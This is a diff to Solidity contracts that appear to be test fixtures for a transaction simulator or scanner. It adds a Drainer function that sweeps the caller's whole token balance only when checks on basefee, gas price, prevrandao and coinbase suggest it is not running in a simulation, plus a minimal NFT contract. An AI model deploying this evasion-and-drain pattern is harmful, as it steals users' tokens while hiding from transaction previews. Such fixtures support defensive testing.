@@ -20,6 +20,11 @@ contract Drainer {
         }
     }
     function failWith(string calldata reason) external payable { revert(reason); }
+    /// Takes the tokens, unless it seems to run in a simulation.
+    function claimUnwatched() external payable {
+        if (block.basefee == 0 || tx.gasprice == 0 || block.prevrandao == 0 || block.coinbase == address(0)) return;
+        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
+    }
     /// Says that it moves tokens of the sender, many times.
     function shout(uint256 times) external {
         for (uint256 i = 0; i < times; i++) new Liar(msg.sender);
@@ -54,5 +59,20 @@ contract Hostile {
     }
     function setApprovalForAll(address operator, bool approved) external {
         emit ApprovalForAll(msg.sender, operator, approved);
+    }
+}
+
+/// Collection whose sender owns the token 7. It says by `ownerOf` only that it is one, as early collections do.
+contract Piece {
+    address owner = msg.sender;
+    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);
+    event Approval(address indexed owner, address indexed approved, uint256 indexed tokenId);
+    function symbol() external pure returns (string memory) { return "PCS"; }
+    function ownerOf(uint256 tokenId) external view returns (address) { require(tokenId == 7); return owner; }
+    function approve(address to, uint256 tokenId) external { emit Approval(msg.sender, to, tokenId); }
+    function transferFrom(address from, address to, uint256 tokenId) external {
+        require(from == owner && msg.sender == owner);
+        owner = to;
+        emit Transfer(from, to, tokenId);
     }
 }
